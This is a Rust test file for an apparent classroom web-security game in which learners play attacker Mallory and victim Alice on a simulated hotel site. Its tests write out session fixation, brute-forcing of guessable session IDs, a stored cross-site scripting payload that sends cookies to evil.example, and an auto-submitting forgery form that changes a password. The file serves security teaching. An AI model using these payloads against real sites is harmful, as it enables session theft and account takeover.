//! Attacks between two learners: a whole round in each hotel, and what nobody can do.

mod hostile;
mod restart;

use http::StatusCode;

use super::{class, joined};
use crate::harness::{Answer, TestApp};
use cloakroom::{
    class::pairs::{Pair, RoundEnd},
    ids::LearnerId,
    tutorial::Classroom,
};

const PAGE: &str = "/class/pair";

fn id_of(room: &Classroom, nickname: &str) -> LearnerId {
    room.class.state().learners().find(|(_, l)| l.nickname.as_str() == nickname).unwrap().0.clone()
}

fn pair_of(room: &Classroom, nickname: &str) -> Option<Pair> {
    let id = id_of(room, nickname);
    room.class.state().pairs().of(&id).cloned()
}

async fn press(who: &TestApp, fields: &[(&str, &str)]) -> Answer {
    who.form(PAGE, fields).await
}

/// Something in the hotel, in the round that is on.
async fn act(who: &TestApp, pair: &Pair, fields: &[(&str, &str)]) -> Answer {
    let (number, round) = (pair.number.to_string(), pair.round.to_string());
    let mut all = vec![("pair", number.as_str()), ("round", round.as_str())];
    all.extend_from_slice(fields);
    let answer = press(who, &all).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{fields:?}: {}", answer.body);
    who.get(PAGE).await
}

/// Two learners of one pair, by asking; the round is on. The first one is Mallory.
async fn two(app: &TestApp, room: &Classroom, weak: &str) -> (TestApp, TestApp, Pair) {
    let (mina, jonas) = (joined(app, room, "Mina").await, joined(app, room, "Jonas").await);
    let (to, from) = (id_of(room, "Jonas"), id_of(room, "Mina"));
    let answer = press(&mina, &[("do", "ask"), ("to", to.as_str()), ("weak", weak)]).await;
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
    assert!(jonas.get("/class").await.body.contains("Mina</bdi> asks you"));
    assert!(pair_of(room, "Jonas").is_none(), "nobody is in a pair without a yes");
    press(&jonas, &[("do", "yes"), ("from", from.as_str())]).await;
    let pair = begin(&mina, &jonas, room).await;
    if pair.is_mallory(&from) { (mina, jonas, pair) } else { (jonas, mina, pair) }
}

async fn begin(mina: &TestApp, jonas: &TestApp, room: &Classroom) -> Pair {
    let pair = pair_of(room, "Mina").unwrap();
    let (number, round) = (pair.number.to_string(), pair.round.to_string());
    for who in [mina, jonas] {
        let answer = press(who, &[("do", "ready"), ("pair", &number), ("round", &round)]).await;
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{}", answer.body);
    }
    pair_of(room, "Mina").unwrap()
}

fn between<'a>(text: &'a str, before: &str, after: &str) -> &'a str {
    let rest = text.split_once(before).unwrap_or_else(|| panic!("no {before} in {text}")).1;
    rest.split_once(after).unwrap().0
}

/// Which form of the page that the browser shows has this name: its number.
fn form(page: &str, name: &str) -> String {
    let (before, _) = page.split_once(&format!("Send “{name}”")).unwrap_or_else(|| panic!("no form {name}: {page}"));
    let (_, n) = before.rsplit_once(r#"name="n" value=""#).unwrap();
    n.split_once('"').unwrap().0.to_owned()
}

async fn logs_in(alice: &TestApp, pair: &Pair, page: &str) -> String {
    let page = if page.contains("Send “log in”") {
        page.to_owned()
    } else {
        act(alice, pair, &[("do", "open"), ("address", "https://hotel.grand.example/login")]).await.body
    };
    let password = between(&page, "password <code>", "<").to_owned();
    let n = form(&page, "log in");
    let fields = [("do", "submit"), ("n", n.as_str()), ("f.guest", "alice"), ("f.password", password.as_str())];
    act(alice, pair, &fields).await.body
}

fn room_code(page: &str) -> String {
    let drawn = between(page, "Your room code", "</p>");
    let text: String = drawn.split('<').map(|part| part.rsplit_once('>').map_or(part, |(_, text)| text)).collect();
    text.trim().to_owned()
}

fn last(room: &Classroom) -> Option<RoundEnd> {
    pair_of(room, "Mina").unwrap().rounds.last().map(|round| round.end)
}

#[tokio::test]
async fn a_planted_id_wins_the_first_round_and_roles_change_for_the_second() {
    let (app, room) = class().await;
    let (mallory, alice, pair) = two(&app, &room, "planted").await;
    let send = |text: &'static str| [("do", "send"), ("text", text)];
    act(&mallory, &pair, &send("GET https://hotel.grand.example/\ncapture mine = cookie.session")).await;
    let link = "https://hotel.grand.example/login?id={{mine}}";
    let sent = act(&mallory, &pair, &[("do", "letter"), ("says", "Your coat is ready"), ("link", link)]).await.body;
    assert!(sent.contains("1 sent"), "{sent}");
    let page = alice.get(PAGE).await.body;
    assert!(page.contains("Your coat is ready") && !page.contains("{{mine}}"), "{page}");
    let page = act(&alice, &pair, &[("do", "follow"), ("n", "1")]).await.body;
    let page = logs_in(&alice, &pair, &page).await;
    assert!(page.contains("room code"), "{page}");
    assert_eq!(last(&room), None);
    let end = act(&mallory, &pair, &[("do", "open"), ("address", "https://hotel.grand.example/account")]).await.body;
    assert!(end.contains("You had the room code after"), "{end}");
    assert_eq!(last(&room), Some(RoundEnd::Mallory));
    let theirs = alice.get(PAGE).await.body;
    assert!(theirs.contains("had your room code after") && theirs.contains("What went over the wire"), "{theirs}");
    assert!(theirs.contains("Alice opens a letter") && theirs.contains("A session ID from the address counts"));
    // Roles change only when both want it.
    let (number, round) = (pair.number.to_string(), pair.round.to_string());
    let ready = [("do", "ready"), ("pair", number.as_str()), ("round", round.as_str())];
    press(&mallory, &ready).await;
    press(&mallory, &ready).await;
    assert!(pair_of(&room, "Mina").unwrap().on.is_none(), "one alone changes nothing");
    press(&alice, &ready).await;
    let second = pair_of(&room, "Mina").unwrap();
    assert_eq!((second.round, second.mallory), (2, 1 - pair.mallory));
    assert!(alice.get(PAGE).await.body.contains("You are Mallory"));
    assert!(mallory.get(PAGE).await.body.contains("You are Alice"));
}

#[tokio::test]
async fn alice_is_first_when_her_errands_are_done() {
    let (app, room) = class().await;
    let (mallory, alice, pair) = two(&app, &room, "planted").await;
    let out = |page: &str| form(page, "log out");
    let page = logs_in(&alice, &pair, "").await;
    assert!(!room_code(&page).is_empty());
    // Too early: it does not count, and the round goes on.
    act(&alice, &pair, &[("do", "submit"), ("n", &out(&page))]).await;
    assert_eq!(last(&room), None);
    act(&mallory, &pair, &[("do", "letter"), ("says", "Look"), ("link", "https://hotel.grand.example/")]).await;
    act(&alice, &pair, &[("do", "follow"), ("n", "1")]).await;
    logs_in(&alice, &pair, "").await;
    let page = act(&alice, &pair, &[("do", "open"), ("address", "https://hotel.grand.example/book")]).await.body;
    let fields = [("do", "submit"), ("n", &form(&page, "write")), ("f.text", "A fine evening")];
    let page = act(&alice, &pair, &fields).await.body;
    let end = act(&alice, &pair, &[("do", "submit"), ("n", &out(&page))]).await.body;
    assert!(end.contains("You were first"), "{end}");
    assert_eq!(last(&room), Some(RoundEnd::Alice));
}

#[tokio::test]
async fn each_other_hole_lets_mallory_in() {
    let (app, room) = class().await;
    let (mallory, alice, pair) = two(&app, &room, "counting").await;
    act(&mallory, &pair, &[("do", "send"), ("text", "GET https://hotel.grand.example/")]).await;
    logs_in(&alice, &pair, "").await;
    let text = "GET https://hotel.grand.example/account\nCookie: sid=session-000000000000{{each 1..9}}A\n=> 200";
    act(&mallory, &pair, &[("do", "send"), ("text", text)]).await;
    assert_eq!(last(&room), Some(RoundEnd::Mallory), "counting: {}", mallory.get(PAGE).await.body);

    let (app, room) = class().await;
    let (mallory, alice, pair) = two(&app, &room, "guest-book").await;
    let page = act(&mallory, &pair, &[("do", "open"), ("address", "https://hotel.grand.example/book")]).await.body;
    let script = "<script>new Image().src = 'https://evil.example/?c=' + encodeURIComponent(document.cookie)</script>";
    act(&mallory, &pair, &[("do", "submit"), ("n", &form(&page, "write")), ("f.text", script)]).await;
    logs_in(&alice, &pair, "").await;
    act(&alice, &pair, &[("do", "open"), ("address", "https://hotel.grand.example/book")]).await;
    let page = mallory.get(PAGE).await.body;
    // The newest stands first: Alice's, and below it what her own browser sent.
    let (_, heard) = page.split_once("What has come to your host").unwrap();
    let sid = between(heard, "sid%3D", "<");
    let text = format!("GET https://hotel.grand.example/account\nCookie: sid={sid}");
    act(&mallory, &pair, &[("do", "send"), ("text", &text)]).await;
    assert_eq!(last(&room), Some(RoundEnd::Mallory), "guest book: {}", mallory.get(PAGE).await.body);

    let (app, room) = class().await;
    let (mallory, alice, pair) = two(&app, &room, "forged").await;
    let html = r#"<form method="post" action="https://hotel.grand.example/password"><input name="password" value="mallory-knows-this"><button>Go</button></form><script>document.forms[0].submit()</script>"#;
    act(&mallory, &pair, &[("do", "page"), ("html", html)]).await;
    let link = "https://evil.example/free-coats";
    act(&mallory, &pair, &[("do", "letter"), ("says", "A prize"), ("link", link)]).await;
    logs_in(&alice, &pair, "").await;
    act(&alice, &pair, &[("do", "follow"), ("n", "1")]).await;
    let page = act(&mallory, &pair, &[("do", "open"), ("address", "https://hotel.grand.example/login")]).await.body;
    let n = form(&page, "log in");
    let fields = [("do", "submit"), ("n", &*n), ("f.guest", "alice"), ("f.password", "mallory-knows-this")];
    act(&mallory, &pair, &fields).await;
    assert_eq!(last(&room), Some(RoundEnd::Mallory), "forged: {}", mallory.get(PAGE).await.body);
}
